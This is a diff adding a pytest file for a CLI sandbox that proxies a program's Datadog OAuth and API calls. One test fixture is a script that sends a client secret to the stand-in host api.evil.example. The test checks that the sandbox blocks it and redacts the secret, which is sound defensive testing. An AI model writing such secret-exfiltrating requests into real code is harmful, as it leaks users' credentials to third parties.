@@ -1,0 +1,209 @@
+"""`ddoauth sandbox -- COMMAND` brings an unchanged program to the sandbox, over real sockets."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+from typing import TYPE_CHECKING
+from urllib.parse import parse_qs, urlsplit
+
+import httpx
+import psutil
+import pytest
+from support.front import SECRET, clean_environment, program
+from support.visitors import Person
+
+from ddoauth_kit.cli import main
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+KIT = [sys.executable, "-m", "ddoauth_kit", "sandbox"]
+CALLS = """
+import httpx
+form = {"grant_type": "authorization_code", "code": "made-up", "client_id": "made-up"}
+told = httpx.post("https://api.datadoghq.com/api/v2/oauth2/token", data=form)
+valid = httpx.get("https://api.datadoghq.eu/api/v1/validate", headers={"DD-API-KEY": "made-up"})
+print(told.status_code, valid.status_code)
+"""
+LEAKS = """
+import httpx, sys
+form = {"client_secret": sys.argv[1], "code": "made-up"}
+print(httpx.post("https://api.evil.example/token?hint=" + sys.argv[1], data=form).status_code)
+"""
+WAITS = """
+import subprocess, sys, time
+print(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"]).pid, flush=True)
+time.sleep(60)
+"""
+
+
+def _sandbox(*arguments: str) -> subprocess.CompletedProcess[str]:
+    """Run the command as a person does, without proxies and trust of whoever runs the tests."""
+    return subprocess.run(
+        [*KIT, *arguments],
+        env=clean_environment(),
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+
+
+def _python(code: str, *arguments: str) -> list[str]:
+    return ["--", sys.executable, "-c", code, *arguments]
+
+
+def test_an_unchanged_program_arrives_in_the_sandbox() -> None:
+    """Datadog's addresses stay written in; each call is one line on stderr, with its status."""
+    done = _sandbox(*_python(CALLS))
+    assert (done.returncode, done.stdout) == (0, "400 403\n"), done.stderr
+    lines = done.stderr.splitlines()
+    assert "POST api.datadoghq.com/api/v2/oauth2/token 400" in lines
+    assert "GET api.datadoghq.eu/api/v1/validate 403" in lines
+
+
+def test_a_secret_does_not_leave_for_a_foreign_host() -> None:
+    """The answer is 403, and the line names the host and the fields, and no value."""
+    done = _sandbox(*_python(LEAKS, SECRET))
+    assert (done.returncode, done.stdout) == (0, "403\n"), done.stderr
+    line = next(line for line in done.stderr.splitlines() if line.startswith("POST"))
+    assert line.startswith("POST api.evil.example/token 403 refused: ")
+    assert line.endswith("The client had sent: client_secret, code in the body; hint in the URL.")
+    assert SECRET not in done.stderr
+
+
+@pytest.mark.parametrize("code", [0, 7])
+def test_the_exit_code_is_the_commands(code: int) -> None:
+    """What the command ends with is what the shell sees, and stdout holds its bytes alone."""
+    done = _sandbox(*_python(f"import sys; print('only this', end=''); sys.exit({code})"))
+    assert (done.returncode, done.stdout) == (code, "only this")
+
+
+def test_the_first_lines_say_what_there_is() -> None:
+    """Before the command's calls: who bypasses the front, addresses, client, redirect URI, stop."""
+    said = _sandbox(*_python("")).stderr
+    assert said.startswith("note: Clients that ignore these variables")
+    names = [line.split("  ")[0] for line in said.splitlines()[1:]]
+    assert names[:4] == ["sandbox", "front", "CA", "client"]
+    assert names[4].startswith("redirect URI")
+    assert names[5] == "stop"
+    assert "client-secret" not in said
+
+
+@pytest.mark.skipif(os.name != "posix", reason="process groups are POSIX")
+def test_ctrl_c_ends_the_whole_group() -> None:
+    """SIGINT reaches the command and what it started, and the exit code tells the signal."""
+    with _started(*_python(WAITS)) as process:
+        assert process.stdout is not None
+        grandchild = psutil.Process(int(process.stdout.readline()))
+        process.send_signal(signal.SIGINT)
+        assert process.wait(timeout=20) in {1, 130}
+    gone, _ = psutil.wait_procs([grandchild], timeout=10)
+    assert gone or grandchild.status() == psutil.STATUS_ZOMBIE
+
+
+def _started(*arguments: str) -> subprocess.Popen[str]:
+    return subprocess.Popen(
+        [*KIT, *arguments],
+        env=clean_environment(),
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+
+
+@pytest.mark.parametrize(
+    ("arguments", "words"),
+    [
+        (["--", "no-such-server"], "no-such-server was not found."),
+        (["--allow", "api.datadoghq.com", "--", "true"], "one of Datadog's hosts"),
+        (["--allow", "a b", "--", "true"], "is not a host to allow"),
+        (["--allow", "shop.example"], "--allow belongs to a command or to --env"),
+        (["--env", "--", "true"], "Leave out the command"),
+    ],
+)
+def test_what_cannot_start_is_one_line(
+    arguments: list[str], words: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The line says what to do, nothing is on stdout, and the exit code is 2."""
+    assert main(["sandbox", *arguments]) == 2
+    said = capsys.readouterr()
+    assert said.out == ""
+    assert words in said.err
+    assert len(said.err.splitlines()) == 1
+
+
+def test_without_trustme_the_line_names_the_extra(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A kit without certificates says how to get them."""
+    monkeypatch.setitem(sys.modules, "trustme", None)
+    assert main(["sandbox", "--", "true"]) == 2
+    assert "pip install 'ddoauth-kit[grade]'" in capsys.readouterr().err
+
+
+def test_variables_for_another_shell(tmp_path: Path) -> None:
+    """`--env` prints exports that lead a shell's programs to the sandbox until Ctrl-C."""
+    bash, curl = program("bash"), program("curl")
+    with _started("--env") as process:
+        lines = "".join(_exports(process))
+        (tmp_path / "front.env").write_text(lines)
+        told = subprocess.run(
+            [bash, "-c", f". ./front.env; {curl} -s https://api.datadoghq.com/api/v1/validate"],
+            cwd=tmp_path,
+            env=clean_environment(),
+            capture_output=True,
+            text=True,
+            timeout=30,
+            check=True,
+        )
+        assert json.loads(told.stdout) == {"errors": ["API key required"]}
+        process.send_signal(signal.SIGINT)
+        assert process.wait(timeout=20) == 0
+
+
+def _exports(process: subprocess.Popen[str]) -> Iterator[str]:
+    """Read up to the last variable in the alphabet, which is written last."""
+    assert process.stdout is not None
+    for line in process.stdout:
+        yield line
+        if line.startswith("export no_proxy="):
+            break
+
+
+def test_a_command_that_calls_past_the_front_is_warned_of() -> None:
+    """After a customer's answer and seconds without a call, a line names the likely variable."""
+    with _started(*_python("import time; time.sleep(60)")) as process:
+        assert process.stderr is not None
+        told: dict[str, str] = {}
+        for line in process.stderr:
+            name, _, value = line.strip().partition(" ")
+            told[name] = value.strip()
+            if name == "stop":
+                break
+        _agree(told["sandbox"], client_id=told["client"].split()[0])
+        warning = process.stderr.readline()
+        process.send_signal(signal.SIGINT)
+    assert warning.startswith("warning: The customer answered on Datadog's page 5 seconds ago")
+    assert "does not get HTTPS_PROXY" in warning
+    assert "trust_env" in warning
+
+
+def _agree(sandbox: str, *, client_id: str) -> None:
+    """Be the customer's browser: open the page, and press the button."""
+    place = f"{sandbox}/us1/app/oauth2/v1/authorize"
+    asked = {
+        "response_type": "code",
+        "client_id": client_id,
+        "redirect_uri": "http://127.0.0.1:8484/oauth/callback",
+        "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
+        "code_challenge_method": "S256",
+        "state": "the-state",
+    }
+    ended = Person().decide(str(httpx.URL(place, params=asked)))
+    assert "code" in parse_qs(urlsplit(ended).query)
